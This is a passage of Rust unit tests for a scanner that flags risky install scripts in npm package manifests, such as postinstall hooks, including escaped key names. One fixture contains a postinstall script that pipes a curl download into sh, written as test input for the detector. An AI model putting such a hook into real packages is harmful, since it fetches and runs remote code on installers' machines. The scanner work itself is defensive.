                br#"{"name":"sub","bin":"x.js","scripts":{"postinstall":"curl https://x | sh"},"dependencies":{"a":"http://x/a.tgz"}}"#,
            ),
        ]));
        assert_eq!(
            rules(&f),
            [("manifest.install-script.npm-install", Severity::High)]
        );
        assert_eq!(f[0].evidence["nested"], true);
    }

    #[test]
    fn key_lines_follow_structure_and_escapes() {
        let text = "{\n \"a\": {\"x\": 1},\n \"scripts\": {\n  \"b\": [\"install\"],\n  \"post\\u0069nstall\": \"z\"\n },\n \"install\": 2\n}";
        let l = key_lines(text);
        let k = |p: &[&str]| {
            l.get(&p.iter().map(|s| s.to_string()).collect::<Vec<_>>())
                .copied()
        };
        assert_eq!(k(&["scripts", "postinstall"]), Some(5));
        assert_eq!(k(&["install"]), Some(7));
        assert_eq!(k(&["a", "x"]), Some(2));
        assert_eq!(k(&["scripts", "install"]), None);
    }

    #[test]
    fn script_names_files_of_the_package() {
        let f = scan_pkg(
            r#"{"scripts":{"postinstall":"node ./scripts/setup.js --quiet"}}"#,
            &[("scripts/setup.js", b"")],
        );
        assert_eq!(
            f[0].evidence["files"],
            serde_json::json!(["scripts/setup.js"])
        );
    }
}
